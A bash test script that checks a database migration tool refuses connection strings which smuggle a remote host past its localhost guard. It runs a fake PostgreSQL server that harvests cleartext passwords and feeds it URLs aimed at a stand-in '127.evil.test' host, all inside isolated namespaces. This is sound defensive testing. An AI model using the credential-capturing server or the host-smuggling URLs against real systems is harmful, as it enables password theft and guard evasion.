#!/usr/bin/env bash
# remote_guard.test.sh — the attack of issue 17.3: --database-url forms that lead to another machine
# (a name beginning with 127. that resolves elsewhere, key=value text, a service file through
# service= or PGSERVICE, PGHOST, PGHOSTADDR, a host list, hostaddr=) are refused before any packet is
# sent. Played in network + mount namespaces this test creates: 127.evil.test resolves (a private
# /etc/hosts bind-mounted in the mount namespace) to 192.0.2.1, an address of that namespace, where a fake
# PostgreSQL server asks for a cleartext password and writes down every connection and password.
# Needs root and unshare -n -m; without them it is SKIPPED (exit 77), never passed silently.
set -uo pipefail
: "${REHEARSE_BIN:?}"
if [ "$(id -u)" != 0 ] || ! unshare -n -m true 2>/dev/null || ! command -v ip >/dev/null ||
    ! command -v python3 >/dev/null; then
    echo "SKIP: remote_guard needs root, unshare -n -m, ip and python3: the remote-host guard is NOT tested here" >&2
    exit 77
fi
work=$(mktemp -d /tmp/rh-remote.XXXXXX)
chmod 755 "$work"
trap 'rm -rf "$work"' EXIT
mkdir -p "$work/migs/20250101000000_init"
printf 'CREATE TABLE t (id int);\n' > "$work/migs/20250101000000_init/migration.sql"
printf '127.0.0.1 localhost\n::1 localhost\n192.0.2.1 127.evil.test\n127.0.0.1 near.test\n' > "$work/hosts"
printf '[evil]\nhost=127.evil.test\nuser=u\npassword=hunter2\ndbname=db\n' > "$work/pg_service.conf"

# the fake server: answers SSLRequest with N, asks for a cleartext password, logs "ADDR PASSWORD"
cat > "$work/server.py" <<'PY'
import socket, struct, sys, threading
log = open(sys.argv[1], "a", buffering=1)
def serve(addr, port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port)); s.listen(16)
    while True:
        c, peer = s.accept()
        log.write("connect %s\n" % addr)
        try:
            n, code = struct.unpack("!II", c.recv(8))
            if code == 80877103:                      # SSLRequest
                c.sendall(b"N"); n = struct.unpack("!I", c.recv(4))[0]
                c.recv(n - 4)
            else:
                c.recv(n - 8)
            c.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
            if c.recv(1) == b"p":
                n = struct.unpack("!I", c.recv(4))[0]
                log.write("password %s %s\n" % (addr, c.recv(n - 4).rstrip(b"\0").decode()))
        except Exception as e:
            log.write("error %s\n" % e)
        c.close()
threading.Thread(target=serve, args=("192.0.2.1", 5432), daemon=True).start()
serve("127.0.0.1", 5432)
PY

cat > "$work/inner.sh" <<'INNER'
set -uo pipefail
work=$1
fail() { echo "FAIL: $*" >&2; exit 1; }
# 192.0.2.1 (TEST-NET-1) on the namespace's own lo: an address of "another machine" no packet can leave for
ip link set lo up && ip addr add 192.0.2.1/32 dev lo ||
    fail "cannot set up the network namespace"
mount --bind "$work/hosts" /etc/hosts || fail "cannot bind-mount a private /etc/hosts"
grep -q 192.0.2.1 <<<"$(getent hosts 127.evil.test)" || fail "127.evil.test does not resolve to 192.0.2.1 here"
python3 "$work/server.py" "$work/server.log" &
server=$!
trap 'kill $server 2>/dev/null' EXIT
# 3000 polls (5 min): guards against a hang, not timings; the conditions end the waits
for _ in $(seq 3000); do (echo > /dev/tcp/192.0.2.1/5432) 2>/dev/null && break; sleep 0.1; done
# the server has handled the readiness probe (it sends nothing: "error" after "connect") ...
for _ in $(seq 3000); do grep -q '^error ' "$work/server.log" && break; sleep 0.1; done
: > "$work/server.log"   # ... which does not count
unset PGHOST PGHOSTADDR PGPORT PGSERVICE PGSERVICEFILE PGPASSWORD
pass=0
# refused WANT ENV... -- URL: exit 2 naming WANT, and the server saw nothing at all
refused() {
    local want=$1
    shift
    local envs=()
    while [ "$1" != "--" ]; do envs+=("$1"); shift; done
    local url=$2 out rc
    out=$(env "${envs[@]}" "$REHEARSE_BIN" status --migrations-dir "$work/migs" --database-url "$url" 2>&1); rc=$?
    [ $rc -eq 2 ] || fail "'$url' ${envs[*]}: exit $rc, expected 2: $out"
    grep -qF -- "$want" <<<"$out" || fail "'$url' ${envs[*]}: the refusal lacks '$want': $out"
    grep -qF -- "--allow-remote" <<<"$out" || grep -qF "cannot resolve" <<<"$out" ||
        fail "'$url': the rule is not said: $out"
    [ ! -s "$work/server.log" ] || fail "'$url' ${envs[*]}: the server was reached: $(cat "$work/server.log")"
    pass=$((pass + 1))
}
refused "host '127.evil.test' resolves to 192.0.2.1" -- "postgresql://u:hunter2@127.evil.test/db"
refused "resolves to 192.0.2.1" -- "host=127.evil.test user=u password=hunter2 dbname=db"
refused "(from the service definition) resolves to 192.0.2.1" PGSERVICEFILE="$work/pg_service.conf" -- "service=evil"
refused "(from the service definition)" PGSERVICEFILE="$work/pg_service.conf" PGSERVICE=evil -- "postgresql:///db"
refused "(from PGHOST) resolves to 192.0.2.1" PGHOST=127.evil.test -- "postgresql://u:hunter2@/db"
refused "hostaddr '192.0.2.1' (from PGHOSTADDR)" PGHOSTADDR=192.0.2.1 -- "postgresql://u:hunter2@localhost/db"
refused "'127.evil.test'" -- "postgresql://u:hunter2@localhost,127.evil.test/db"
refused "'192.0.2.1'" -- "postgresql://u:hunter2@localhost/db?hostaddr=192.0.2.1"
refused "cannot resolve host 'nowhere.invalid'" -- "postgresql://u:hunter2@nowhere.invalid/db"

# a name that resolves to this machine passes, and the connection goes to the loopback address
out=$("$REHEARSE_BIN" status --migrations-dir "$work/migs" --database-url "postgresql://u:local@near.test/db" 2>&1)
grep -q "^password 127.0.0.1 local$" "$work/server.log" || fail "near.test: not connected on loopback: $out $(cat "$work/server.log")"
grep -q "192.0.2.1" "$work/server.log" && fail "near.test reached 192.0.2.1"
: > "$work/server.log"
pass=$((pass + 1))
# --allow-remote: the server is reached (so the refusals above were not a broken set-up)
out=$("$REHEARSE_BIN" status --migrations-dir "$work/migs" --allow-remote \
    --database-url "postgresql://u:hunter2@127.evil.test/db" 2>&1)
grep -q "^password 192.0.2.1 hunter2$" "$work/server.log" || fail "--allow-remote did not reach the server: $out"
pass=$((pass + 1))
echo "remote_guard: $pass checks passed"
INNER
export REHEARSE_BIN
timeout 300 unshare -n -m bash "$work/inner.sh" "$work"
